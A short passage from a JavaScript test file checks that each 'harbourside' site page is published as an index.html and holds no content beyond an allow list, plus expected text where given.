      const file = path.join(outOf(attempt.layout ? 'layout' : 'differential'), 'harbourside', page, 'index.html');
      expect(existsSync(file), `${page} was not published`).toBe(true);
      const html = readFileSync(file, 'utf8');
      expect(beyondAllowList(html), page).toEqual([]);
      if (attempt.shows) expect(html).toContain(attempt.shows);
    }
  });
});
